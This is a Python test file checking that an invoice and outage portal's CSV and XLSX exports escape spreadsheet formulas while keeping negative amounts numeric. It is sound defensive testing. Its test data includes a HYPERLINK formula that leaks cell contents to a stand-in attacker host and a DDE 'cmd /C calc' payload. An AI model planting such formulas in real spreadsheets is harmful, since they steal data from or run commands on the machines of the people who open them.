"""Spreadsheets the portal hands out never run a formula an uploaded file or a counterparty planted."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from invoices.models import ImportBatch, ImportKind, ImportRejection
from outage_portal.spreadsheets import escape_cell
from recovery.models import Gap
from tests.recovery.reissue.fixtures import make_gaps

PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "-12.5.1", "-1e3"],
)
def test_formulas_become_text(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, -1.5, "-12.50", "-7", "12.50", "北京", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert escape_cell(value) == value


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_rejected_rows_csv_is_formula_escaped(client_for, alice, beijing):
    batch = ImportBatch.objects.create(company=beijing, kind=ImportKind.values[0], created_by=alice)
    ImportRejection.objects.create(batch=batch, row=2, column="@cmd", reason=PLANTED)
    rows = _csv(client_for(alice).get(f"/imports/{batch.pk}/rejected-rows.csv"))
    assert rows[1] == ["2", "'@cmd", "'" + PLANTED]


@pytest.fixture
def planted_gap(beijing):
    gap = make_gaps(beijing, 1)[0]
    Gap.objects.filter(pk=gap.pk).update(explanation=PLANTED, amount_at_risk=Decimal("-12.50"))
    return gap


def test_the_gap_csv_escapes_text_but_keeps_negative_amounts(client_for, alice, planted_gap):
    rows = _csv(client_for(alice).get("/recovery/gaps/export.csv", HTTP_ACCEPT_LANGUAGE="en"))
    header, row = rows[0], next(r for r in rows[1:] if r[3] == planted_gap.invoice_key)
    assert row[header.index("Why")] == "'" + PLANTED
    assert row[header.index("Amount at risk")] == "-12.50"


def test_the_gap_xlsx_escapes_text_and_keeps_amounts_numeric(client_for, alice, planted_gap):
    response = client_for(alice).get("/recovery/gaps/export.xlsx", HTTP_ACCEPT_LANGUAGE="en")
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    header, row = rows[0], next(r for r in rows[1:] if r[3] == planted_gap.invoice_key)
    assert row[header.index("Why")] == "'" + PLANTED
    assert row[header.index("Amount at risk")] == -12.5  # a numeric cell, not text
